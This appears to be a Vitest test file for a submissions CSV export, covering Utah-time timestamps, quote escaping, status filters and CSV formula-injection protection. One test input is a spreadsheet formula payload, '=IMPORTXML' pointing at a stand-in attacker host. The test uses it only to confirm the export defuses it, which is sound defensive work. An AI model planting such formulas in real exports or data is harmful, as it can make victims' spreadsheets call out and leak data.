import { sql } from 'drizzle-orm'
import { expect, test } from 'vitest'
import { setupTestDatabase } from '../../../tests/setup/test-database'
import { exportSubmissionsCsv } from './csv-export.server'
import { saveFiles } from './files.server'
import { saveContactMessage, saveFeedback } from './store.server'

const t = setupTestDatabase()

test('a contact export has a header, one row per message in Utah time, quoting and formula protection', async () => {
  const first = await saveContactMessage(t.db, {
    name: 'Ann "AJ" Smith',
    email: 'ann@example.com',
    phone: '+1 801 555 0100',
    community: undefined,
    message: '=IMPORTXML("http://evil.example")\nsecond line',
  })
  await t.db.execute(
    sql`update contact_messages set created_at = '2026-07-04T18:05:00Z' where id = ${first.id}`,
  )
  await saveFiles(t.db, { type: 'contact', id: first.id }, [
    { field: 'attachment', fileName: 'photo.png', bytes: Buffer.from([0x89, 0x50]), kind: 'png' },
  ])
  const { csv, rows, fileName } = await exportSubmissionsCsv(t.db, 'contact')
  expect(rows).toBe(1)
  expect(fileName).toMatch(/^contact-submissions-\d{4}-\d{2}-\d{2}\.csv$/)
  expect(csv.startsWith('\uFEFF')).toBe(true)
  const [header, row, end] = csv.slice(1).split('\r\n')
  expect(header).toBe(
    'Reference,Status,Received (Utah time),Name,Email,Language,Phone,Community,Message,Files',
  )
  // 18:05 UTC in July is 12:05 in Denver (MDT, UTC-6).
  expect(row).toBe(
    `${first.reference},New,2026-07-04T12:05:00-06:00,"Ann ""AJ"" Smith",ann@example.com,English,'+1 801 555 0100,,` +
      `"'=IMPORTXML(""http://evil.example"")\nsecond line",photo.png`,
  )
  expect(end).toBe('')
})

test('the export takes the status filter and refuses a bad one', async () => {
  await saveFeedback(t.db, { rating: 5, comments: undefined })
  expect((await exportSubmissionsCsv(t.db, 'feedback', { status: 'done' })).rows).toBe(0)
  expect((await exportSubmissionsCsv(t.db, 'feedback', { status: 'new' })).rows).toBe(1)
  await expect(exportSubmissionsCsv(t.db, 'feedback', { status: 'gone' })).rejects.toMatchObject({
    status: 422,
  })
})
